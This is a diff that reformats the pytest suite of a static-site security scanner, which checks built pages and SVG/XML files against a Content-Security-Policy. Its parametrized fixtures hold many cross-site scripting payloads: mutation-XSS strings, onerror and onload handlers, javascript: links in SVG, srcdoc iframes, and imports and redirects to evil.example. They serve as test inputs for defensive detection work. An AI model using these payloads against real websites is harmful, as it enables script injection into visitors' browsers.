@@ -23,8 +23,11 @@ BASE_SCRIPT = re.compile(r"<script[^>]*>(.*?)</script>", re.S)
 
 def page(body: str, head: str = "", policy: str = POLICY) -> str:
     """A page as the theme lays it out: the policy first in <head>."""
-    return (f'<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{policy}">'
-            f"{head}</head><body>{body}</body></html>")
+    return (
+        '<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
+        f'content="{policy}">'
+        f"{head}</head><body>{body}</body></html>"
+    )
 
 
 def findings(html: str) -> list[str]:
@@ -34,38 +37,49 @@ def findings(html: str) -> list[str]:
 def test_the_policy_allows_exactly_the_scripts_material_ships() -> None:
     shipped_base = BASE_SCRIPT.search((JAVASCRIPTS / "base.html").read_text(encoding="utf-8"))
     assert shipped_base is not None and SCOPE_IN_CODE in shipped_base.group(1)
-    ours = BASE_SCRIPT.search((ROOT / "overrides" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8"))
+    ours = BASE_SCRIPT.search(
+        (ROOT / "overrides" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
+    )
     assert ours is not None
     assert ours.group(1) == shipped_base.group(1).replace(SCOPE_IN_CODE, SCOPE_FROM_TAG)
     content = BASE_SCRIPT.findall((JAVASCRIPTS / "content.html").read_text(encoding="utf-8"))
     assert (script_hash(ours.group(1)), script_hash(content[-1])) == INLINE_SCRIPT_HASHES
 
 
-@pytest.mark.skipif(importlib.util.find_spec("zensical") is None and not ON_GITHUB,
-                    reason="Zensical is not installed: `make install-dev` installs it")
+@pytest.mark.skipif(
+    importlib.util.find_spec("zensical") is None and not ON_GITHUB,
+    reason="Zensical is not installed: `make install-dev` installs it",
+)
 def test_zensical_writes_the_same_inline_script_as_material() -> None:
     """The hub's override of the head script applies under Zensical too (the same
     `overrides/`), so the only other inline script must be the one Material writes."""
-    zensical = BASE_SCRIPT.findall((theme_templates("zensical") / "partials" / "javascripts" / "content.html").read_text(encoding="utf-8"))
+    zensical = BASE_SCRIPT.findall(
+        (theme_templates("zensical") / "partials" / "javascripts" / "content.html").read_text(encoding="utf-8")
+    )
     assert script_hash(zensical[-1]) == INLINE_SCRIPT_HASHES[1]
 
 
 def test_the_theme_writes_the_policy_the_scan_requires() -> None:
-    assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">' in (ROOT / "overrides" / "main.html").read_text(encoding="utf-8")
+    assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">' in (
+        ROOT / "overrides" / "main.html"
+    ).read_text(encoding="utf-8")
     assert "'unsafe-inline'" not in POLICY and "'unsafe-eval'" not in POLICY
     assert "object-src 'none'" in POLICY and "base-uri 'self'" in POLICY
 
 
 def test_a_page_as_the_theme_writes_it_passes() -> None:
-    base = BASE_SCRIPT.search((ROOT / "overrides" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8"))
+    base = BASE_SCRIPT.search(
+        (ROOT / "overrides" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
+    )
     assert base is not None
     target = BASE_SCRIPT.findall((JAVASCRIPTS / "content.html").read_text(encoding="utf-8"))[-1]
     html = page(
         f'<form class="md-search__form"></form><p>Text &lt;script&gt;</p><script>{target}</script>'
         '<script id="__config" type="application/json">{"base": ".."}</script>'
         '<script src="../javascripts/hub-search.js"></script>',
-        head=f'<meta http-equiv="refresh" content="0; url=../family-group-conferences/"><link rel="stylesheet" href="x.css">'
-             f'<script data-md-scope="..">{base.group(1)}</script>',
+        head='<meta http-equiv="refresh" content="0; url=../family-group-conferences/"><link rel="stylesheet" '
+        'href="x.css">'
+        f'<script data-md-scope="..">{base.group(1)}</script>',
     )
     assert findings(html) == []
 
@@ -93,15 +107,21 @@ def test_a_page_as_the_theme_writes_it_passes() -> None:
         ("<!-- --!><img src=x onerror=alert(1)>-->", "event handler attribute 'onerror'"),
         ("<script>alert(1)", "inline <script> is not one the Content-Security-Policy allows"),
         ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "is not allowed"),
-        ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>', "uses a javascript: address"),
+        (
+            '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
+            "uses a javascript: address",
+        ),
         ("<svg><script>alert(1)</script></svg>", "inline <script>"),
         ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "uses a javascript: address"),
         ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "is not allowed"),
-        ('<template><img src=x onerror=alert(1)></template>', "<template> is not allowed"),
+        ("<template><img src=x onerror=alert(1)></template>", "<template> is not allowed"),
         ('<script type="module">import("https://evil.example/x.js")</script>', "inline <script>"),
         ('<script id="__config" type="application/json" onload="alert(1)">{}</script>', "event handler"),
         ('<script type="text/javascript" id="__config">alert(1)</script>', "inline <script>"),
-        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "is not the hub's Content-Security-Policy or its own redirect"),
+        (
+            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+            "is not the hub's Content-Security-Policy or its own redirect",
+        ),
         ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> in the body is not allowed"),
         ("<style>body{display:none}</style>", "<style> is not allowed"),
         ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "has a srcdoc attribute"),
@@ -120,10 +140,19 @@ def test_the_scan_finds_what_a_browser_would_run(body: str, finding: str) -> Non
     ("html", "finding"),
     [
         ("<html><head></head><body><p>x</p></body></html>", "has no Content-Security-Policy"),
-        (page("", policy=POLICY.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")), "has no Content-Security-Policy"),
-        ('<html><head><script src="assets/javascripts/bundle.js"></script>' + page("")[15:], "comes before the Content-Security-Policy"),
+        (
+            page("", policy=POLICY.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")),
+            "has no Content-Security-Policy",
+        ),
+        (
+            '<html><head><script src="assets/javascripts/bundle.js"></script>' + page("")[15:],
+            "comes before the Content-Security-Policy",
+        ),
         (page("", head='<link rel="import" href="x.html">'), "is not a kind the theme uses"),
-        (page("", head=f'<meta http-equiv="Content-Security-Policy" content="{POLICY}; script-src *">'), "is not the hub's Content-Security-Policy"),
+        (
+            page("", head=f'<meta http-equiv="Content-Security-Policy" content="{POLICY}; script-src *">'),
+            "is not the hub's Content-Security-Policy",
+        ),
     ],
 )
 def test_the_scan_requires_the_policy(html: str, finding: str) -> None:
@@ -134,14 +163,25 @@ def test_the_scan_requires_the_policy(html: str, finding: str) -> None:
 @pytest.mark.parametrize(
     ("data", "finding"),
     [
-        (b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><feed xmlns="http://www.w3.org/2005/Atom"/>', "processing instruction"),
+        (
+            b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><feed xmlns="http://www.w3.org/2005/Atom"/>',
+            "processing instruction",
+        ),
         (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<script> is not allowed"),
         (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event handler attribute 'onload'"),
-        (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:alert(1)"/></svg>',
-         "javascript: address"),
-        (b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
-         "<foreignobject> is not allowed"),
-        (b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>', "<script> is not allowed"),
+        (
+            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a '
+            b'x:href="javascript:alert(1)"/></svg>',
+            "javascript: address",
+        ),
+        (
+            b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
+            "<foreignobject> is not allowed",
+        ),
+        (
+            b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
+            "<script> is not allowed",
+        ),
         (b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "DOCTYPE"),
         (b"<feed><entry></feed>", "not well-formed"),
     ],
@@ -152,16 +192,29 @@ def test_the_scan_finds_active_xml(data: bytes, finding: str) -> None:
 
 
 def test_a_plain_feed_and_sitemap_pass() -> None:
-    assert scan_xml(b'<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>x &lt;b&gt;</title></feed>') == []
-    assert scan_xml(b'<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>') == []
+    assert (
+        scan_xml(
+            b'<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>x '
+            b"&lt;b&gt;</title></feed>"
+        )
+        == []
+    )
+    assert (
+        scan_xml(b'<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>')
+        == []
+    )
 
 
 def test_every_published_document_is_scanned(tmp_path: Path) -> None:
     (tmp_path / "index.html").write_text(page("<p>ok</p>"), encoding="utf-8")
     (tmp_path / "images").mkdir()
-    (tmp_path / "images" / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
+    (tmp_path / "images" / "logo.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8"
+    )
     (tmp_path / "old.htm").write_text(page("<script>alert(1)</script>"), encoding="utf-8")
-    (tmp_path / "page.XHTML").write_text('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', encoding="utf-8")
+    (tmp_path / "page.XHTML").write_text(
+        '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', encoding="utf-8"
+    )
     (tmp_path / "logo.svgz").write_bytes(b"\x1f\x8b")
     (tmp_path / "notes.txt").write_text("<script>alert(1)</script>", encoding="utf-8")  # served as text
     found = {problem.path for problem in scan_site(tmp_path)}
@@ -172,7 +225,9 @@ def test_theme_scripts_are_the_files_the_installed_theme_ships(tmp_path: Path) -
     bundle = next((theme_templates() / "assets" / "javascripts").glob("bundle.*.min.js"))
     (tmp_path / "assets" / "javascripts").mkdir(parents=True)
     shutil.copy(bundle, tmp_path / "assets" / "javascripts" / bundle.name)
-    (tmp_path / "index.html").write_text(page(f'<script src="assets/javascripts/{bundle.name}"></script>'), encoding="utf-8")
+    (tmp_path / "index.html").write_text(
+        page(f'<script src="assets/javascripts/{bundle.name}"></script>'), encoding="utf-8"
+    )
     assert scan_site(tmp_path) == []
     (tmp_path / "assets" / "javascripts" / bundle.name).write_text("alert(1)", encoding="utf-8")
     [problem] = scan_site(tmp_path)
@@ -183,7 +238,9 @@ def test_theme_scripts_are_the_files_the_installed_theme_ships(tmp_path: Path) -
 
 
 def test_messages_are_printable_ascii(tmp_path: Path) -> None:
-    (tmp_path / "a\u202e\n.html").write_text(page('<img src=x onerror="alert(1)" title="\u202e\x1b[31m">'), encoding="utf-8")
+    (tmp_path / "a\u202e\n.html").write_text(
+        page('<img src=x onerror="alert(1)" title="\u202e\x1b[31m">'), encoding="utf-8"
+    )
     [problem] = scan_site(tmp_path)
     text = str(problem)
     assert text.isascii() and "\n" not in text and "\x1b" not in text
